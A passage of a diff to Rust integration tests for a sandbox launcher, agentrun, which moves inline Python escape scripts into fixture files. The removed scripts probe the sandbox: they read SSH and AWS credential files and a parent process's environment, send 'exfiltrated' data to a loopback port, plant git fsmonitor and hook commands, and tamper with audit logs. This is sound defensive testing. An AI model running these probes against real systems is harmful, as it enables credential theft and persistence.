@@ -8,16 +8,14 @@
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
-mod harness;
-
-use harness::*;
+use crate::harness::*;
 use std::collections::HashMap;
 use std::io::Read;
 use std::net::TcpListener;
 use std::os::unix::fs::PermissionsExt;
 use std::os::unix::net::UnixListener;
 use std::path::{Path, PathBuf};
-use std::process::{Command, Stdio};
+use std::process::Command;
 use std::time::Duration;
 
 const PYTHON: &str = "/usr/bin/python3";
@@ -25,13 +23,6 @@ const NOBODY: u32 = 65534;
 /// Sits in the launcher's environment, never declared: the child must not get at it.
 const LAUNCHER_ONLY: &str = "hvs.launcher-only-Qm7Zk2Lp9Xw4Rt6Yb1Nc";
 const DECLARED: &str = "sk-declared-Vb8Nm3Kq5Wz1Xc7Lp2Rt";
-
-/// Who runs agentrun.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-enum As {
-    Root,
-    Nobody,
-}
 
 /// Skip (or, under CI=true, fail) when `ok` is false.
 fn require(test: &str, ok: bool, why: &str) -> bool {
@@ -92,15 +83,6 @@ fn kernel_ready(test: &str) -> bool {
     )
 }
 
-fn is_root() -> bool {
-    // Our own /proc entry is owned by our euid.
-    use std::os::unix::fs::MetadataExt;
-    std::fs::metadata("/proc/self")
-        .map(|m| m.uid())
-        .unwrap_or(1)
-        == 0
-}
-
 /// Whether the test can run as `who` (switching users needs root).
 fn can_run_as(test: &str, who: As) -> bool {
     who == As::Root
@@ -111,78 +93,21 @@ fn can_run_as(test: &str, who: As) -> bool {
         )
 }
 
-/// A scratch directory prepared for `who`: for nobody, everything belongs to nobody and is
-/// readable (dirs 0755, files 0644, never group/other-writable), so any denial is the
-/// sandbox's, not the file mode's.
+/// A scratch directory readable by others; [`Scratch::hand_to`] gives it to nobody.
 fn scratch() -> Scratch {
     let s = Scratch::new();
     std::fs::set_permissions(s.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
     s
 }
 
-fn hand_over(s: &Scratch, who: As) {
-    if who == As::Root {
-        return;
-    }
-    for e in walk(s.path()).into_iter().chain(walk(s.home_dir.path())) {
-        let dir = e.is_dir();
-        std::os::unix::fs::lchown(&e, Some(NOBODY), Some(NOBODY)).unwrap();
-        if !e.is_symlink() {
-            let mode = if dir { 0o755 } else { 0o644 };
-            let keep_x = std::fs::metadata(&e).unwrap().permissions().mode() & 0o100;
-            std::fs::set_permissions(
-                &e,
-                std::fs::Permissions::from_mode(
-                    mode | if dir { 0 } else { keep_x * 0o111 / 0o100 },
-                ),
-            )
-            .unwrap();
-        }
-    }
-}
-
-fn walk(p: &Path) -> Vec<PathBuf> {
-    let mut out = vec![p.to_path_buf()];
-    if p.is_dir() && !p.is_symlink() {
-        for e in std::fs::read_dir(p).unwrap().flatten() {
-            out.extend(walk(&e.path()));
-        }
-    }
-    out
-}
-
-/// The real agentrun as `who`, in `cwd`, with the scratch's clean environment.
-fn agentrun(s: &Scratch, who: As, cwd: &Path, args: &[&str]) -> Command {
-    let mut c = match who {
-        As::Root => Command::new(bin()),
-        As::Nobody => {
-            let mut c = Command::new("setpriv");
-            c.args([
-                "--reuid",
-                "65534",
-                "--regid",
-                "65534",
-                "--clear-groups",
-                bin(),
-            ]);
-            c
-        }
-    };
-    c.args(args)
-        .current_dir(cwd)
-        .env_clear()
-        .envs(&s.env)
-        .stdin(Stdio::null());
-    c
-}
-
-fn run(s: &Scratch, who: As, cwd: &Path, args: &[&str]) -> Out {
-    Out::from(agentrun(s, who, cwd, args).output().unwrap())
-}
-
 /// `check --json` as `who` (landlock_abi, pid_namespace, ...).
 fn check_json(s: &Scratch, who: As, cwd: &Path, profile: &str) -> serde_json::Value {
-    let o = run(s, who, cwd, &["check", "--profile", profile, "--json"]);
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(cwd)
+        .args(["check", "--profile", profile, "--json"])
+        .run();
     serde_json::from_str(&o.stdout).unwrap_or_else(|e| panic!("check --json: {e}: {o:?}"))
 }
 
@@ -193,138 +118,10 @@ fn results(text: &str) -> HashMap<String, String> {
         .collect()
 }
 
-fn audit_events(path: &Path) -> Vec<serde_json::Value> {
-    std::fs::read_to_string(path)
-        .unwrap_or_default()
-        .lines()
-        .map(|l| serde_json::from_str(l).unwrap())
-        .collect()
-}
-
 /// The escape attempts, one `name=result` line each (`ok` or the errno name). The launcher's
 /// pid comes from a file the test writes once agentrun runs (the child's own pids are its
 /// PID namespace's).
-const ESCAPES: &str = r#"
-import ctypes, errno, os, socket, subprocess, sys, time
-libc = ctypes.CDLL(None, use_errno=True)
-E = os.environ
-work, outside, home = E["WORK"], E["OUTSIDE"], E["HOME"]
-while not os.path.exists(work + "/launcher.pid"):
-    time.sleep(0.01)
-time.sleep(0.05)
-lp = int(open(work + "/launcher.pid").read())
-ppid = os.getppid()
-print(f"ppid={ppid}", flush=True)
-
-def sc(name, *args):
-    r = libc.syscall(ctypes.c_long(int(E["NR_" + name])), *[ctypes.c_long(a) for a in args])
-    return "ok" if r >= 0 else errno.errorcode[ctypes.get_errno()]
-
-def attempt(name, fn):
-    try:
-        r = fn()
-        res = "ok" if r is None else r
-    except OSError as e:
-        res = errno.errorcode.get(e.errno, str(e.errno))
-    print(f"{name}={res}", flush=True)
-
-def read(p):
-    with open(p, "rb") as f:
-        return "ok:" + str(len(f.read()))
-
-def write(p):
-    with open(p, "w") as f:
-        f.write("pwned")
-
-def connect(port, proto=0):
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto)
-    s.settimeout(5)
-    s.connect(("127.0.0.1", port))
-    s.close()
-
-def udp():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.sendto(b"x", ("127.0.0.1", int(E["UDP_PORT"])))
-
-def unix(addr):
-    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-    s.connect(addr)
-
-def tfo_sendto(port):
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    s.sendto(b"exfiltrated", 0x20000000, ("127.0.0.1", port))
-
-def tfo_sendmsg(port):
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    s.sendmsg([b"exfiltrated"], [], 0x20000000, ("127.0.0.1", port))
-
-def tfo_connect_opt():
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    s.setsockopt(socket.IPPROTO_TCP, 30, 1)
-
-def listen_autobind():
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    s.listen(1)
-    return "ok:" + str(s.getsockname()[1])
-
-def tiocsti():
-    r = libc.ioctl(0, 0x5412, ctypes.c_char_p(b"x"))
-    return "ok" if r >= 0 else errno.errorcode[ctypes.get_errno()]
-
-# The launcher (it holds a secret in its environment) and the process above us.
-attempt("launcher_environ", lambda: read(f"/proc/{lp}/environ"))
-attempt("launcher_mem", lambda: read(f"/proc/{lp}/mem"))
-attempt("launcher_maps", lambda: read(f"/proc/{lp}/maps"))
-attempt("launcher_fd_link", lambda: os.readlink(f"/proc/{lp}/fd/0") and None)
-attempt("launcher_fd_open", lambda: read(f"/proc/{lp}/fd/2"))
-attempt("launcher_fds", lambda: os.listdir(f"/proc/{lp}/fd") and None)
-attempt("launcher_ptrace", lambda: sc("ptrace", 16, lp, 0, 0))
-attempt("launcher_vm_readv", lambda: sc("process_vm_readv", lp, 0, 0, 0, 0, 0))
-attempt("launcher_kill", lambda: os.kill(lp, 9))
-attempt("parent_kill", lambda: os.kill(ppid, 9))
-attempt("parent_ptrace", lambda: sc("ptrace", 16, ppid, 0, 0))
-# Files.
-attempt("read_ssh", lambda: read(home + "/.ssh/id_rsa"))
-attempt("read_aws", lambda: read(home + "/.aws/credentials"))
-attempt("read_bashrc", lambda: read(home + "/.bashrc") and None)
-attempt("write_work", lambda: write(work + "/ok.txt"))
-attempt("write_outside", lambda: write(outside + "/marker"))
-attempt("write_home", lambda: write(home + "/marker"))
-attempt("symlink_create", lambda: os.symlink(outside + "/marker_sym", work + "/link"))
-attempt("symlink_write", lambda: write(work + "/link"))
-attempt("hardlink_out", lambda: os.link(outside + "/ro.txt", work + "/hl"))
-attempt("truncate_ro", lambda: os.truncate(outside + "/ro.txt", 0))
-attempt("open_trunc_ro", lambda: os.close(os.open(outside + "/ro.txt", os.O_WRONLY | os.O_TRUNC)))
-attempt("exec_from_work", lambda: subprocess.run([work + "/run.sh"]) and None)
-# Network.
-attempt("tcp_denied", lambda: connect(int(E["DENIED_PORT"])))
-attempt("tcp_allowed", lambda: connect(int(E["ALLOWED_PORT"])))
-attempt("mptcp_denied", lambda: connect(int(E["DENIED_PORT"]), 262))
-attempt("tfo_sendto", lambda: tfo_sendto(int(E["DENIED_PORT"])))
-attempt("tfo_sendmsg", lambda: tfo_sendmsg(int(E["DENIED_PORT"])))
-attempt("tfo_connect_opt", tfo_connect_opt)
-attempt("listen_autobind", listen_autobind)
-attempt("udp", udp)
-attempt("unix_abstract", lambda: unix("\0" + E["ABSTRACT"]))
-attempt("unix_path", lambda: unix(E["UNIX_PATH"]))
-attempt("socketpair", lambda: [s.close() for s in socket.socketpair()] and None)
-# Kernel surface.
-attempt("unshare", lambda: sc("unshare", 0x10000000))
-attempt("mount", lambda: sc("mount", 0, 0, 0, 0, 0))
-attempt("bpf", lambda: sc("bpf", 0, 0, 0))
-attempt("io_uring_setup", lambda: sc("io_uring_setup", 1, 0))
-attempt("keyctl", lambda: sc("keyctl", 0, -3, 0))
-attempt("modify_ldt", lambda: sc("modify_ldt", 0, 0, 0))
-attempt("tiocsti", tiocsti)
-with open("/proc/self/status") as f:
-    for line in f:
-        k, _, v = line.partition(":")
-        if k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
-            print(f"{k}={v.strip()}", flush=True)
-print("done=1", flush=True)
-while not os.path.exists(work + "/stop"):
-    time.sleep(0.01)
-"#;
+const ESCAPES: &str = include_str!("../fixtures/escape.py");
 
 fn escapes(who: As, tag: &str) {
     if !can_run_as(tag, who) || !kernel_ready(tag) {
@@ -413,22 +210,18 @@ log = "{}"
             audit.display()
         ),
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let mut s = s;
     s.env.insert("SRC_TOKEN".into(), DECLARED.into());
     s.env.insert("VAULT_TOKEN".into(), LAUNCHER_ONLY.into());
 
     let profile_s = profile.to_str().unwrap();
-    let mut child = agentrun(
-        &s,
-        who,
-        &work,
-        &["--profile", profile_s, "--", PYTHON, "-c", ESCAPES],
-    )
-    .stdout(Stdio::piped())
-    .stderr(Stdio::piped())
-    .spawn()
-    .unwrap();
+    let mut child = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args(["--profile", profile_s, "--", PYTHON, "-c", ESCAPES])
+        .spawn();
     let launcher = child.id() as i32;
     let pidfile = work.join("launcher.pid");
     std::fs::write(&pidfile, launcher.to_string()).unwrap();
@@ -458,7 +251,7 @@ log = "{}"
     assert!(still_running, "{tag}: the launcher was disturbed: {status}");
     assert_eq!(code, Some(0), "{tag}: {stderr}");
 
-    let events = audit_events(&audit);
+    let events = read_events(&audit);
     let sandbox = events.iter().find(|e| e["event"] == "sandbox").unwrap();
     let pid_ns = sandbox["pid_namespace"]["available"] == true;
     // In its own PID namespace the child cannot even name the launcher; outside one,
@@ -598,7 +391,7 @@ fn abstract_sockets_stay_scoped_with_unix_sockets() {
             // exist in the child's own namespace).
             &format!("version = 1\n[sandbox]\nwrite = [\".\"]\nunix_sockets = true\nconnect = [9]\n[env]\nset = {{ NAME = \"{name}\" }}\n"),
         );
-        hand_over(&s, who);
+        s.hand_to(who);
         std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
         let code = r#"
 import errno, os, socket
@@ -610,12 +403,12 @@ for k, a in (("abstract", "\0" + os.environ["NAME"]), ("path", "ok.sock")):
         print(k + "=" + errno.errorcode[e.errno])
 "#;
         let p = s.path().join("profiles/u.toml");
-        let o = run(
-            &s,
-            who,
-            &work,
-            &["-p", p.to_str().unwrap(), "--", PYTHON, "-c", code],
-        );
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", p.to_str().unwrap(), "--", PYTHON, "-c", code])
+            .run();
         let got = results(&o.stdout);
         assert_eq!(
             got.get("abstract").map(String::as_str),
@@ -649,24 +442,22 @@ fn unconfined_and_best_effort_are_recorded() {
     let p = s.path().join("profiles/p.toml");
     let p = p.to_str().unwrap();
     let status = "grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status";
-    let o = run(
-        &s,
-        As::Root,
-        &work,
-        &["-p", p, "--unconfined", "--", "sh", "-c", status],
-    );
+    let o = s
+        .agentrun()
+        .cwd(&work)
+        .args(["-p", p, "--unconfined", "--", "sh", "-c", status])
+        .run();
     assert_eq!(o.code, 0, "{o:?}");
     assert!(o.stdout.contains("Seccomp:\t0"), "{o:?}");
-    let o2 = run(
-        &s,
-        As::Root,
-        &work,
-        &["-p", p, "--best-effort", "--", "sh", "-c", status],
-    );
+    let o2 = s
+        .agentrun()
+        .cwd(&work)
+        .args(["-p", p, "--best-effort", "--", "sh", "-c", status])
+        .run();
     assert_eq!(o2.code, 0, "{o2:?}");
     assert!(o2.stdout.contains("Seccomp:\t2"), "{o2:?}");
     // The operator's log (the harness's AGENTRUN_AUDIT_LOG) overrides the profile's.
-    let events = audit_events(&s.path().join("audit.jsonl"));
+    let events = read_events(&s.path().join("audit.jsonl"));
     let modes: Vec<&str> = events
         .iter()
         .filter(|e| e["event"] == "sandbox")
@@ -700,12 +491,11 @@ fn explain_shows_rules_and_given_back_syscalls() {
         "version = 1\n[sandbox]\nread = [\"/etc\"]\nwrite = [\".\"]\nconnect = [443]\nallow_syscalls = [\"ptrace\"]\n",
     );
     let p = s.path().join("profiles/e.toml");
-    let o = run(
-        &s,
-        As::Root,
-        &work,
-        &["explain", "-p", p.to_str().unwrap(), "--json"],
-    );
+    let o = s
+        .agentrun()
+        .cwd(&work)
+        .args(["explain", "-p", p.to_str().unwrap(), "--json"])
+        .run();
     assert_eq!(o.code, 0, "{o:?}");
     let j: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
     let sb = &j["sandbox"];
@@ -745,7 +535,7 @@ fn check_reports_abi_and_pid_namespace() {
         let work = s.path().join("work");
         std::fs::create_dir_all(&work).unwrap();
         s.profile("c", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/c.toml");
         let j = check_json(&s, who, &work, p.to_str().unwrap());
         let sb = &j["sandbox"];
@@ -780,7 +570,7 @@ fn ordinary_programs_run_under_the_default_policy() {
         assert!(git.success());
         s.file("work/README", "hello\n");
         s.profile("d", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/d.toml");
         let p = p.to_str().unwrap();
         let mut cases: Vec<(&str, Vec<&str>, &str)> = vec![
@@ -808,7 +598,7 @@ fn ordinary_programs_run_under_the_default_policy() {
         for (name, argv, want) in cases {
             let mut args = vec!["-p", p, "--"];
             args.extend(argv);
-            let o = run(&s, who, &work, &args);
+            let o = s.agentrun().user(who).cwd(&work).args(&args).run();
             assert_eq!(o.code, 0, "{who:?} {name}: {o:?}");
             assert!(o.stdout.contains(want), "{who:?} {name}: {o:?}");
         }
@@ -828,7 +618,7 @@ fn sigkilled_launcher_leaves_no_survivors() {
         let work = s.path().join("work");
         std::fs::create_dir_all(work.join("up")).unwrap();
         s.profile("n", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/n.toml");
         let j = check_json(&s, who, &work, p.to_str().unwrap());
         if !require(
@@ -848,16 +638,12 @@ fn sigkilled_launcher_leaves_no_survivors() {
              sh -c \"sh -c 'touch up/2; sleep 300; : {m}' >/dev/null 2>&1 &\" & \
              while [ ! -e up/1 ] || [ ! -e up/2 ]; do sleep 0.01; done; echo ready; sleep 300"
         );
-        let mut child = agentrun(
-            &s,
-            who,
-            &work,
-            &["-p", p.to_str().unwrap(), "--", "sh", "-c", &script],
-        )
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
+        let mut child = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", p.to_str().unwrap(), "--", "sh", "-c", &script])
+            .spawn();
         let mut out = child.stdout.take().unwrap();
         let got = read_until(&mut out, Duration::from_secs(10), |t| t.contains("ready"));
         assert!(got.contains("ready"), "{who:?}: {got}");
@@ -885,27 +671,30 @@ fn signals_and_exit_codes_through_the_pid_namespace() {
         let work = s.path().join("work");
         std::fs::create_dir_all(&work).unwrap();
         s.profile("x", "version = 1\n");
-        hand_over(&s, who);
+        s.hand_to(who);
         let p = s.path().join("profiles/x.toml");
         let p = p.to_str().unwrap();
-        let code = |script: &str| run(&s, who, &work, &["-p", p, "--", "sh", "-c", script]).code;
+        let code = |script: &str| {
+            s.agentrun()
+                .user(who)
+                .cwd(&work)
+                .args(["-p", p, "--", "sh", "-c", script])
+                .run()
+                .code
+        };
         assert_eq!(code("exit 7"), 7, "{who:?}");
         assert_eq!(code("kill -TERM $$"), 143, "{who:?}");
         assert_eq!(code("kill -KILL $$"), 137, "{who:?}");
         assert_eq!(code("kill -SEGV $$"), 139, "{who:?}");
-        let o = run(&s, who, &work, &["-p", p, "--", "./nope"]);
+        let o = s
+            .agentrun()
+            .user(who)
+            .cwd(&work)
+            .args(["-p", p, "--", "./nope"])
+            .run();
         assert_eq!(o.code, 127, "{who:?} {o:?}");
 
-        let mut child = agentrun(
-            &s,
-            who,
-            &work,
-            &["-p", p, "--", "sh", "-c", "trap 'echo got-USR1' USR1; trap 'echo got-TERM; exit 9' TERM; echo ready; while :; do sleep 0.05; done"],
-        )
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .unwrap();
+        let mut child = s.agentrun().user(who).cwd(&work).args(["-p", p, "--", "sh", "-c", "trap 'echo got-USR1' USR1; trap 'echo got-TERM; exit 9' TERM; echo ready; while :; do sleep 0.05; done"]).spawn();
         let mut out = child.stdout.take().unwrap();
         read_until(&mut out, Duration::from_secs(5), |t| t.contains("ready"));
         send(child.id(), "USR1");
@@ -922,28 +711,7 @@ fn signals_and_exit_codes_through_the_pid_namespace() {
 
 /// What a child without network ports tries: every way out to a listener on the host's
 /// loopback, and a listener of its own.
-const NO_NETWORK: &str = r#"
-import errno, os, socket
-port = int(os.environ["HOST_PORT"])
-def attempt(name, fn):
-    try:
-        r = fn()
-        res = "ok" if r is None else r
-    except OSError as e:
-        res = errno.errorcode.get(e.errno, str(e.errno))
-    print(f"{name}={res}", flush=True)
-def tcp():
-    s = socket.socket(); s.settimeout(3); s.connect(("127.0.0.1", port))
-def tfo_sendto():
-    s = socket.socket(); s.sendto(b"exfiltrated", 0x20000000, ("127.0.0.1", port))
-def tfo_sendmsg():
-    s = socket.socket(); s.sendmsg([b"exfiltrated"], [], 0x20000000, ("127.0.0.1", port))
-attempt("tcp", tcp)
-attempt("tfo_sendto", tfo_sendto)
-attempt("tfo_sendmsg", tfo_sendmsg)
-ifaces = sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:])
-print("ifaces=" + ",".join(ifaces), flush=True)
-"#;
+const NO_NETWORK: &str = include_str!("../fixtures/no_network.py");
 
 fn no_ports_no_network(who: As, tag: &str) {
     if !can_run_as(tag, who) || !kernel_ready(tag) {
@@ -963,12 +731,12 @@ fn no_ports_no_network(who: As, tag: &str) {
             work.display()
         ),
     );
-    hand_over(&s, who);
-    let o = run(
-        &s,
-        who,
-        &work,
-        &[
+    s.hand_to(who);
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args([
             "--audit-log",
             audit.to_str().unwrap(),
             "--profile",
@@ -977,8 +745,8 @@ fn no_ports_no_network(who: As, tag: &str) {
             PYTHON,
             "-c",
             NO_NETWORK,
-        ],
-    );
+        ])
+        .run();
     let got = results(&o.stdout);
     assert_eq!(o.code, 0, "{tag}: {o:?}");
     // Landlock refuses the port and seccomp the Fast Open flag, as in any policy; beneath
@@ -996,7 +764,7 @@ fn no_ports_no_network(who: As, tag: &str) {
         host.accept().is_err(),
         "{tag}: the host's listener accepted"
     );
-    let events = audit_events(&audit);
+    let events = read_events(&audit);
     let sandbox = events.iter().find(|e| e["event"] == "sandbox").unwrap();
     assert_eq!(
         sandbox["isolation"]["own_network"], true,
@@ -1018,46 +786,7 @@ fn no_ports_means_no_network_as_nobody() {
 /// `file:` source (or swap it for a link to a key), move a directory holding a source away
 /// and recreate it, forge or cut the audit log, and plant a `core.fsmonitor` command in
 /// `.git/config`. Its own files in the working directory stay its to change.
-const PERSIST: &str = r##"
-import errno, os
-def attempt(name, fn):
-    try:
-        r = fn()
-        res = "ok" if r is None else r
-    except OSError as e:
-        res = errno.errorcode.get(e.errno, str(e.errno))
-    print(f"{name}={res}", flush=True)
-def append(p, text):
-    with open(p, "a") as f:
-        f.write(text)
-def write(p, text):
-    with open(p, "w") as f:
-        f.write(text)
-def swap_for_link(p, target):
-    os.unlink(p)
-    os.symlink(target, p)
-def move_and_recreate():
-    os.rename("sub", "sub.old")
-    os.makedirs("sub/deep")
-    write("sub/deep/token.txt", "planted")
-attempt("profile_append", lambda: append("profiles/p.toml", '\n[sandbox]\nread = ["/"]\n'))
-attempt("profile_plant", lambda: write("profiles/evil.toml", "version = 1\n"))
-attempt("profiles_rename", lambda: os.rename("profiles", "profiles.old"))
-attempt("dotenv_rewrite", lambda: write(".env", "API_KEY=${VAULT_TOKEN}\n"))
-attempt("dotenv_unlink", lambda: os.unlink(".env"))
-attempt("token_swap", lambda: swap_for_link("sub/deep/token.txt", os.environ["HOME"] + "/.ssh/id_rsa"))
-attempt("token_dir_move", move_and_recreate)
-attempt("deep_rename", lambda: os.rename("sub/deep", "sub/deep2"))
-attempt("git_config", lambda: append(".git/config", "[core]\n\tfsmonitor = touch pwned\n"))
-attempt("git_hook", lambda: write(".git/hooks/pre-commit", "#!/bin/sh\ntouch pwned\n"))
-attempt("audit_truncate", lambda: os.truncate("audit/audit.jsonl", 0))
-attempt("audit_forge", lambda: write("audit/forged.jsonl", "{}\n"))
-attempt("audit_rename", lambda: os.rename("audit", "audit.old"))
-attempt("own_file", lambda: write("notes.txt", "mine"))
-attempt("own_dir", lambda: os.makedirs("out/a"))
-attempt("own_list", lambda: "ok:" + str(len(os.listdir("."))))
-print("token=" + os.environ.get("TOKEN", "") + " key=" + os.environ.get("API_KEY", ""), flush=True)
-"##;
+const PERSIST: &str = include_str!("../fixtures/persist.py");
 
 fn later_runs_cannot_be_set_up(who: As, tag: &str) {
     if !can_run_as(tag, who) || !kernel_ready(tag) {
@@ -1082,7 +811,7 @@ fn later_runs_cannot_be_set_up(who: As, tag: &str) {
         "version = 1\n[env]\npass = [\"PATH\", \"HOME\"]\n[secrets]\nTOKEN = \"file:sub/deep/token.txt\"\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
     );
     let audit = work.join("audit/audit.jsonl");
-    hand_over(&s, who);
+    s.hand_to(who);
     let before: Vec<(PathBuf, String)> = [&profile, &env, &token, &work.join(".git/config")]
         .iter()
         .map(|p| ((*p).clone(), std::fs::read_to_string(p).unwrap()))
@@ -1097,7 +826,7 @@ fn later_runs_cannot_be_set_up(who: As, tag: &str) {
         "-c",
         PERSIST,
     ];
-    let first = run(&s, who, &work, &args);
+    let first = s.agentrun().user(who).cwd(&work).args(args).run();
     assert_eq!(first.code, 0, "{tag}: {first:?}");
     let got = results(&first.stdout);
     let expect = [
@@ -1147,7 +876,7 @@ fn later_runs_cannot_be_set_up(who: As, tag: &str) {
     ] {
         assert!(!work.join(p).exists(), "{tag}: {p} appeared");
     }
-    let events = audit_events(&audit);
+    let events = read_events(&audit);
     assert!(
         events.iter().any(|e| e["event"] == "exit"),
         "{tag}: the log was cut"
@@ -1165,7 +894,7 @@ fn later_runs_cannot_be_set_up(who: As, tag: &str) {
         "mine"
     );
     // Run 2 reads what run 1 found, and git runs no planted command.
-    let second = run(&s, who, &work, &args);
+    let second = s.agentrun().user(who).cwd(&work).args(args).run();
     assert!(
         second
             .stdout
@@ -1195,6 +924,9 @@ fn later_runs_cannot_be_set_up_as_nobody() {
     later_runs_cannot_be_set_up(As::Nobody, "later_runs_cannot_be_set_up_as_nobody");
 }
 
+/// Makes a memfd executable three ways; one `name=result` line each.
+const MEMFD_EXEC: &str = include_str!("../fixtures/memfd_exec.py");
+
 /// A memfd is a file with no path under any exec rule: as root the child's PID namespace has
 /// `vm.memfd_noexec = 2`, so one cannot be made executable (unprivileged runs cannot set it:
 /// see the threat model).
@@ -1215,39 +947,11 @@ fn memfd_cannot_be_executed_as_root() {
     let work = s.path().join("work");
     std::fs::create_dir_all(&work).unwrap();
     let profile = s.file("profiles/m.toml", "version = 1\n");
-    let code = r#"
-import errno, os
-def attempt(name, fn):
-    try:
-        fn(); res = "ok"
-    except OSError as e:
-        res = errno.errorcode.get(e.errno, str(e.errno))
-    print(f"{name}={res}", flush=True)
-def plain():
-    fd = os.memfd_create("x", 0)
-    os.write(fd, open("/usr/bin/true", "rb").read())
-    os.fchmod(fd, 0o755)
-def flagged():
-    os.memfd_create("x", 0x10)  # MFD_EXEC
-def run():
-    fd = os.memfd_create("x", 0)
-    os.write(fd, open("/usr/bin/true", "rb").read())
-    pid = os.fork()
-    if pid == 0:
-        try:
-            os.execv(f"/proc/self/fd/{fd}", ["true"])
-        except OSError as e:
-            os._exit(100 + e.errno)
-    print("exec=" + str(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])), flush=True)
-attempt("chmod_x", plain)
-attempt("mfd_exec", flagged)
-run()
-"#;
-    let o = run(
-        &s,
-        As::Root,
-        &work,
-        &[
+    let code = MEMFD_EXEC;
+    let o = s
+        .agentrun()
+        .cwd(&work)
+        .args([
             "--audit-log",
             "-",
             "--profile",
@@ -1256,8 +960,8 @@ run()
             PYTHON,
             "-c",
             code,
-        ],
-    );
+        ])
+        .run();
     let got = results(&o.stdout);
     assert_eq!(
         got.get("chmod_x").map(String::as_str),
@@ -1321,7 +1025,7 @@ fn dotenv_expands_nothing(who: As, tag: &str) {
         "work/p.toml",
         "version = 1\n[secrets]\nAPI_KEY = \"dotenv:.env#API_KEY\"\n",
     );
-    hand_over(&s, who);
+    s.hand_to(who);
     let grab = [
         "-p",
         "p.toml",
@@ -1330,7 +1034,7 @@ fn dotenv_expands_nothing(who: As, tag: &str) {
         "-c",
         "printf %s \"$API_KEY\" > got",
     ];
-    let o = run(&s, who, &work, &grab);
+    let o = s.agentrun().user(who).cwd(&work).args(grab).run();
     assert_eq!(o.code, 0, "{o:?}");
     assert_eq!(read_or_empty(&work.join("got")), DECLARED);
     for planted in [
@@ -1339,7 +1043,7 @@ fn dotenv_expands_nothing(who: As, tag: &str) {
         "export API_KEY=$VAULT_TOKEN\n",
     ] {
         rewrite(&env_file, planted);
-        let o = run(&s, who, &work, &grab);
+        let o = s.agentrun().user(who).cwd(&work).args(grab).run();
         assert_eq!(o.code, 0, "{planted:?}: {o:?}");
         let got = read_or_empty(&work.join("got"));
         assert!(
@@ -1385,23 +1089,23 @@ fn planted_profile_is_shadowed(who: As, tag: &str) {
         "work/profiles/research.toml",
         "version = 1\n[env]\nset = { WHO = \"planted\" }\n[secrets]\nSTOLEN = \"file:~/.ssh/id_rsa\"\n[sandbox]\nread = [\"/\"]\n",
     );
-    hand_over(&s, who);
-    let o = run(
-        &s,
-        who,
-        &work,
-        &[
+    s.hand_to(who);
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args([
             "-p",
             "research",
             "--",
             "sh",
             "-c",
             "printf %s \"$WHO${STOLEN:+stolen}\" > who",
-        ],
-    );
+        ])
+        .run();
     assert_eq!(o.code, 0, "{o:?}");
     assert_eq!(read_or_empty(&work.join("who")), "user", "{o:?}");
-    let o = run(&s, who, &work, &["profiles"]);
+    let o = s.agentrun().user(who).cwd(&work).args(["profiles"]).run();
     let planted = o
         .stdout
         .lines()
@@ -1446,8 +1150,13 @@ fn backend_files_are_kept(who: As, tag: &str) {
         script.push_str(&format!("cat {} ; echo {var}=$?\n", p.display()));
     }
     s.file("work/p.toml", "version = 1\n");
-    hand_over(&s, who);
-    let o = run(&s, who, &work, &["-p", "p.toml", "--", "sh", "-c", &script]);
+    s.hand_to(who);
+    let o = s
+        .agentrun()
+        .user(who)
+        .cwd(&work)
+        .args(["-p", "p.toml", "--", "sh", "-c", &script])
+        .run();
     assert_eq!(o.code, 0, "{o:?}");
     assert!(!o.stdout.contains("launcher-only-"), "{o:?}");
     for (var, _) in files {
@@ -1571,17 +1280,15 @@ fn stores_under_the_password_database_home_are_kept_without_home() {
     );
     let script = format!("cat {}; echo rc=$?", key.file.display());
     for home in [None, Some(s.path().join("home"))] {
-        let mut c = agentrun(
-            &s,
-            As::Root,
-            &work,
-            &["-p", "p.toml", "--", "sh", "-c", &script],
-        );
-        match &home {
-            None => c.env_remove("HOME"),
-            Some(h) => c.env("HOME", h),
-        };
-        let o = Out::from(c.output().unwrap());
+        let run = s
+            .agentrun()
+            .cwd(&work)
+            .args(["-p", "p.toml", "--", "sh", "-c", &script]);
+        let o = match &home {
+            None => run.env_remove("HOME"),
+            Some(h) => run.env("HOME", h),
+        }
+        .run();
         assert_eq!(o.code, 0, "HOME={home:?}: {o:?}");
         assert!(!o.stdout.contains(secret), "HOME={home:?}: {o:?}");
         assert!(o.stdout.contains("rc=1"), "HOME={home:?}: {o:?}");
@@ -1617,25 +1324,16 @@ fn stores_under_the_password_database_home_are_kept_without_home() {
     }
     let script = format!("cat {}/.ssh/id_rsa; echo rc=$?", real_home.display());
     for home in [None, Some(s.path().join("home"))] {
-        let mut c = Command::new("setpriv");
-        c.args([
